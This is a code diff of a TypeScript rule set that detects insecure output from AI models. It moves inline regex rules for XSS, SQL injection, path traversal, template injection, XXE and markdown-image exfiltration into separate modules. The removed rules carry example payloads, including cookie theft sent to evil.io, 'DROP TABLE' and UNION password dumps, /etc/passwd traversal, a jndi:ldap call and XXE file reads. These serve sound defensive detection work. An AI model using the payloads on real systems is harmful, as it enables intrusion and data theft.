@@ -1,225 +1,36 @@
-/** Payloads that do harm where an application shows, queries or runs what the model wrote. */
+/**
+ * What does harm where an application shows, queries or runs what a model wrote: payloads, and code that is dangerous by itself. A
+ * payload is a payload in a fence, too: whoever copies it runs it. Prose about an attack holds none.
+ */
 import type { Rule } from '../types.ts';
-import { OUTPUT } from './taxonomy.ts';
-
-const base = {
-  version: 1,
-  category: 'INSECURE_OUTPUT',
-  flags: 'i',
-  kinds: ['output', 'tool_arguments'],
-} as const;
-const XSS = [OUTPUT, 'CWE-79'] as const;
-const OWASP_XSS =
-  'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html';
+import { dangerousCodeRules } from './code-danger.ts';
+import { evasionRules } from './code-evasion.ts';
+import { malwareRules } from './code-malware.ts';
+import { systemCodeRules } from './code-system.ts';
+import { commandPayloadRules } from './payload-command.ts';
+import { exfiltrationRules } from './payload-exfiltration.ts';
+import { objectPayloadRules } from './payload-object.ts';
+import { pathPayloadRules } from './payload-path.ts';
+import { queryPayloadRules } from './payload-query.ts';
+import { requestPayloadRules } from './payload-request.ts';
+import { sqlPayloadRules } from './payload-sql.ts';
+import { templatePayloadRules } from './payload-template.ts';
+import { textPayloadRules } from './payload-text.ts';
+import { xssRules } from './payload-xss.ts';
 
 export const insecureOutputRules: readonly Rule[] = [
-  {
-    ...base,
-    id: 'html-script',
-    type: 'xss',
-    severity: 'HIGH',
-    confidence: 0.85,
-    taxonomy: XSS,
-    description: 'A script element.',
-    severity_reason: 'It runs in the reader’s browser if shown as HTML.',
-    references: [OWASP_XSS],
-    triggers: ['<script'],
-    pattern: '<script(?:\\s[^>]{0,300})?>(?:[^<]|<(?!/script))*(?:</script\\s{0,3}>)?',
-    examples: {
-      match: [{ text: 'Hi <script>fetch("//evil.io?c="+document.cookie)</script>' }],
-      no_match: [{ text: 'the <scripting> tag' }, { text: 'script tags' }],
-    },
-  },
-  {
-    ...base,
-    id: 'html-event-handler',
-    type: 'xss',
-    severity: 'HIGH',
-    confidence: 0.8,
-    taxonomy: XSS,
-    description: 'An HTML element with an event handler, or one that loads foreign documents.',
-    severity_reason: 'It runs in the reader’s browser if shown as HTML.',
-    references: [OWASP_XSS],
-    triggers: [
-      '<img',
-      '<svg',
-      '<body',
-      '<iframe',
-      '<input',
-      '<video',
-      '<audio',
-      '<details',
-      '<object',
-      '<embed',
-      '<marquee',
-      '<a ',
-      '<div',
-      '<button',
-      '<form',
-      '<math',
-      '<select',
-      '<style',
-      '<link',
-      '<meta',
-      '<base',
-    ],
-    pattern:
-      '<(?:[a-z]{1,10}[\\s/][^<>]{0,300}?(?<![a-z])on(?:error|load|click|mouse\\w{2,5}|focus|blur|toggle|start|begin|end|submit|change|input|key\\w{2,5}|pointer\\w{2,5}|animation\\w{3,9}|transitionend|wheel|copy|paste|drag\\w{0,5}|drop|hashchange|message|resize|scroll)\\s{0,3}=\\s{0,3}["\'`]?[^\\s>"\'`][^>]{0,200}>?|iframe\\s[^>]{0,200}(?:srcdoc|src\\s{0,3}=\\s{0,3}["\']?(?:javascript|data):)[^>]{0,200}>?|meta\\s[^>]{0,80}http-equiv\\s{0,2}=\\s{0,2}["\']?refresh[^>]{0,200}>?)',
-    examples: {
-      match: [{ text: '<img src=x onerror=alert(1)>' }, { text: '<svg/onload=alert(1)>' }],
-      no_match: [{ text: '<img src="cat.png" alt="on the sofa">' }, { text: '<div class="button on">' }],
-    },
-  },
-  {
-    ...base,
-    id: 'javascript-url',
-    type: 'xss',
-    severity: 'HIGH',
-    confidence: 0.8,
-    taxonomy: XSS,
-    description: 'A javascript: or scripted data: URL.',
-    severity_reason: 'A click runs it.',
-    references: [OWASP_XSS],
-    triggers: ['javascript:', 'vbscript:', 'data:text/html'],
-    pattern:
-      '(?<=[("\'=\\[<]\\s{0,3})(?:(?:java|vb)script:(?!\\s*(?:void\\(0\\)|;|["\')]))[^\\s"\'<>]{2,300}|data:text/html[^\\s"\'<>]{0,300})',
-    examples: {
-      match: [
-        { text: '[click](javascript:alert(document.cookie))' },
-        { text: '<a href="javascript:steal()">' },
-      ],
-      no_match: [{ text: 'Learn JavaScript: the good parts' }, { text: '<a href="javascript:void(0)">' }],
-    },
-  },
-  {
-    ...base,
-    id: 'markdown-image-exfiltration',
-    type: 'markdown_exfiltration',
-    severity: 'HIGH',
-    confidence: 0.75,
-    taxonomy: [OUTPUT, 'ATLAS:AML.T0057', 'CWE-200'],
-    description: 'A markdown image whose address carries data to a foreign host.',
-    severity_reason: 'It sends the data as soon as it is shown; nobody clicks.',
-    references: ['https://atlas.mitre.org/techniques/AML.T0057'],
-    triggers: ['!['],
-    pattern: '!\\[[^\\][\\n]{0,200}\\]\\(\\s{0,3}<?https?://[^\\s)]{4,2400}\\)?',
-    validators: ['carries_data'],
-    examples: {
-      match: [{ text: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)' }],
-      no_match: [
-        { text: '![cat](https://img.example/cat.png)' },
-        { text: '![b](https://img.shields.io/x.svg?style=flatsquare)' },
-      ],
-    },
-  },
-  {
-    ...base,
-    id: 'sql-injection',
-    type: 'sql_injection',
-    severity: 'HIGH',
-    confidence: 0.8,
-    taxonomy: [OUTPUT, 'CWE-89'],
-    description: 'A SQL injection payload.',
-    severity_reason: 'It reads or destroys a database behind a careless query.',
-    references: ['https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html'],
-    triggers: [
-      "' or",
-      '" or',
-      "') or",
-      "') or",
-      "' and",
-      '" and',
-      "'or",
-      '"or',
-      "';",
-      '";',
-      "' union",
-      '" union',
-      ') union',
-      ' union select',
-      ' union all',
-      "'--",
-      'xp_cmdshell',
-      'sleep(',
-      'waitfor delay',
-      'benchmark(',
-      'extractvalue(',
-      'load_file(',
-      'into outfile',
-      "'||",
-      '1=1',
-    ],
-    pattern:
-      "[\"']\\)?\\s{0,3}(?:or|and)\\s{1,3}\\(?[\"']?(\\w{1,20})[\"']?\\s{0,3}=\\s{0,3}[\"']?\\1\\b|[\"']\\)?\\s{0,3};\\s{0,3}(?:drop|delete|truncate|alter|exec|shutdown|insert|update)\\s[^\\n]{0,120}|[\"')]?\\s{0,3}union\\s{1,3}(?:all\\s{1,3})?select\\s[^\\n]{0,120}?(?:--|#|null|@@version|information_schema|password|from\\s{1,3}(?:users|mysql|pg_|sys))|[\"']\\s{0,2}--|(?<![\\w])xp_cmdshell|(?<=['\") ;,(](?:and|or|select|if\\(.{0,20})?\\s{0,3})(?:sleep\\(\\d|benchmark\\(\\d{4,}|waitfor delay ')|extractvalue\\(\\d{1,5},\\s{0,2}concat|load_file\\(['\"]|into outfile ['\"]|(?<=\\b(?:or|and)\\s{1,3})1=1\\s{0,3}(?:--|#|/\\*)|'\\|\\|\\(?select",
-    examples: {
-      match: [
-        { text: "admin' OR '1'='1' --" },
-        { text: "'; DROP TABLE users; --" },
-        { text: "1' UNION SELECT username, password FROM users--" },
-      ],
-      no_match: [
-        { text: "It's 'this' or 'that'." },
-        { text: 'time.sleep(5)' },
-        { text: 'SELECT a FROM x UNION SELECT b FROM y' },
-      ],
-    },
-  },
-  {
-    ...base,
-    id: 'path-traversal',
-    type: 'path_traversal',
-    severity: 'MEDIUM',
-    confidence: 0.75,
-    taxonomy: [OUTPUT, 'CWE-22'],
-    description: 'A path that climbs out of its folder towards system files.',
-    severity_reason: 'It reads files that the application never meant to serve.',
-    references: ['https://cwe.mitre.org/data/definitions/22.html'],
-    triggers: ['../', '..\\', '..%2f', '..%5c', '..;/', '....//'],
-    pattern:
-      '(?<![.\\w])(?=((?:\\.{2,4}(?:/{1,2}|\\\\{1,2}|%2f|%5c|;/)){2,20}))\\1(?:[\\w.-]{1,40}[/\\\\]){0,4}(?:etc[/\\\\](?:passwd|shadow|hosts)|windows[/\\\\](?:win\\.ini|system32)|boot\\.ini|proc[/\\\\]self|var[/\\\\]log|root[/\\\\]|\\.ssh|\\.env\\b|\\.aws|web\\.config|wp-config)',
-    examples: {
-      match: [{ text: 'file=../../../../etc/passwd' }, { text: '..\\..\\windows\\win.ini' }],
-      no_match: [{ text: "import x from '../../lib/x.ts'" }, { text: 'wait... ../' }],
-    },
-  },
-  {
-    ...base,
-    id: 'template-injection',
-    type: 'template_injection',
-    severity: 'HIGH',
-    confidence: 0.75,
-    taxonomy: [OUTPUT, 'CWE-1336'],
-    description: 'A template expression that reaches for the machine behind it.',
-    severity_reason: 'Rendered by a template engine it runs code on the server.',
-    references: ['https://cwe.mitre.org/data/definitions/1336.html'],
-    triggers: ['{{', '${', '<%', '#{', '{%'],
-    pattern:
-      '(?:\\{\\{|\\$\\{|<%=?|#\\{|\\{%)[^{}%\\n]{0,120}?(?:__class__|__globals__|__mro__|__subclasses__|__import__|__builtins__|getRuntime|java\\.lang|T\\(java|freemarker\\.template|popen\\(|os\\.system|child_process|constructor\\.constructor|jndi:|IO\\.popen|File\\.open|\\d{1,6}\\s?\\*\\s?[\'"]?\\d{1,6}[\'"]?\\s?(?:\\}|%>)|config\\.items|self\\._TemplateReference|request\\.application)[^\\n]{0,120}',
-    examples: {
-      match: [
-        { text: "{{''.__class__.__mro__[1].__subclasses__()}}" },
-        { text: '{{7*7}}' },
-        { text: `${'$'}{jndi:ldap://evil.io/a}` },
-      ],
-      no_match: [{ text: '{{ user.name }}' }, { text: `${'$'}{price * 2}` }],
-    },
-  },
-  {
-    ...base,
-    id: 'xml-external-entity',
-    type: 'xxe',
-    severity: 'HIGH',
-    confidence: 0.9,
-    taxonomy: [OUTPUT, 'CWE-611'],
-    description: 'An XML document type with an external entity.',
-    severity_reason: 'A careless parser reads local files or calls out.',
-    references: ['https://cwe.mitre.org/data/definitions/611.html'],
-    triggers: ['<!entity'],
-    pattern:
-      '<!ENTITY\\s{1,4}(?:%\\s{1,3})?[\\w.-]{1,60}\\s{1,4}(?:SYSTEM|PUBLIC)\\s{1,4}["\'][^"\'>]{1,300}["\']',
-    examples: {
-      match: [{ text: '<!ENTITY xxe SYSTEM "file:///etc/passwd">' }],
-      no_match: [{ text: '<!ENTITY copy "&#169;">' }],
-    },
-  },
+  ...xssRules,
+  ...sqlPayloadRules,
+  ...commandPayloadRules,
+  ...pathPayloadRules,
+  ...templatePayloadRules,
+  ...requestPayloadRules,
+  ...objectPayloadRules,
+  ...exfiltrationRules,
+  ...queryPayloadRules,
+  ...textPayloadRules,
+  ...dangerousCodeRules,
+  ...malwareRules,
+  ...evasionRules,
+  ...systemCodeRules,
 ];
